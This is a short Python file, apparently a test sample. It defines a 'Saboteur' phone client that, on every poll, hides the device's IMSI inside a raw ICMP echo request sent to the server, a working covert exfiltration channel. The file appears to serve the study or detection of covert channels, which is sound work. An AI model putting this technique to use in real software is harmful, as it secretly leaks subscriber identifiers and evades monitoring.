"""Pings the server, as people do. What stands in a ping is free, and this one has the IMSI.

mechanism: another protocol: ICMP
"""
import socket
import struct

from client import SERVER, Phone, run


class Saboteur(Phone):
    def poll(self):
        super().poll()
        text = self.identity["imsi"].encode().ljust(16)
        total = sum(struct.unpack("!8H", text)) + 0x0800 + 1
        total = (total & 0xFFFF) + (total >> 16)
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as ping:
            ping.sendto(struct.pack("!BBHHH", 8, 0, ~(total + (total >> 16)) & 0xFFFF, 0, 1) + text, (SERVER, 0))


run(Saboteur())
